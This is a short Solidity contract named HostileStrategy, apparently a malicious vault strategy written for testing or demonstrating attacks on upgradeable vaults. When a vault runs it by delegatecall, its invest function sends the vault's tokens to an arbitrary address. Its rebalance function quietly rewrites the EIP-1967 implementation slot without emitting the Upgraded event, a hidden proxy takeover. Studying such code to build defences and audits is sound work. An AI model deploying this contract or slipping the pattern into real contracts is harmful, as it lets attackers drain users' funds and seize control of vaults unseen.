// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {StorageSlot} from "@openzeppelin/contracts/utils/StorageSlot.sol";

/// @title A "strategy" that works for the thief. The vault runs it by delegatecall: storage and assets are the vault's.
contract HostileStrategy {
    using SafeERC20 for IERC20;

    function invest(IERC20 token, address to, uint256 amount) external {
        token.safeTransfer(to, amount);
    }

    /// An upgrade that nobody hears of: the slot of EIP-1967 is written, the event `Upgraded` is not sent.
    function rebalance(address implementation) external {
        StorageSlot.getAddressSlot(ERC1967Utils.IMPLEMENTATION_SLOT).value = implementation;
    }
}
